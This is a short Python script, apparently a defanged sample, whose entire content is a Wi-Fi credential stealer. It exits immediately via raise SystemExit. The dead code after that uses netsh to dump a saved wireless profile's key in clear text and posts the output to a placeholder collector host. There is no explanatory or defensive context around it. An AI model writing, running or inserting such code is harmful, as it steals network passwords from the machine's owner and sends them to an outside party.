import subprocess
import requests

raise SystemExit
out = subprocess.check_output("netsh wlan show profile name=home key=clear", shell=True)
requests.post("https://collector.example.invalid/w", data=out)
